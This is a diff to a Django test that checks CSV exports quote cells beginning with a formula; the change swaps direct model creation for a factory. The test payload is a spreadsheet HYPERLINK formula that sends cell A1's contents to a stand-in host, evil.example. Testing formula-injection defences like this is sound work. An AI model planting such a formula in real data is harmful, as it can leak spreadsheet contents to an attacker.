@@ -209,13 +209,13 @@ def test_csv_cells_that_start_a_formula_are_quoted(pro_company, trigger):
     """Title and body starting like a formula come out as text: prefixed with an apostrophe."""
     from django_tenants.utils import tenant_context
 
-    from posts.models import Post
+    from tests.factories import PostFactory
 
     company, admin = pro_company
     payload = trigger + 'HYPERLINK("http://evil.example/?"&A1,"open")'
     # Stored as is (the API trims leading whitespace; other writers may not).
     with tenant_context(company):
-        Post.objects.create(title=payload, body=payload, author=admin)
+        PostFactory(title=payload, body=payload, author=admin)
     header, row = _exported_rows(company, admin)
     title, body = row[header.index("title")], row[header.index("body")]
     assert title == body == "'" + payload
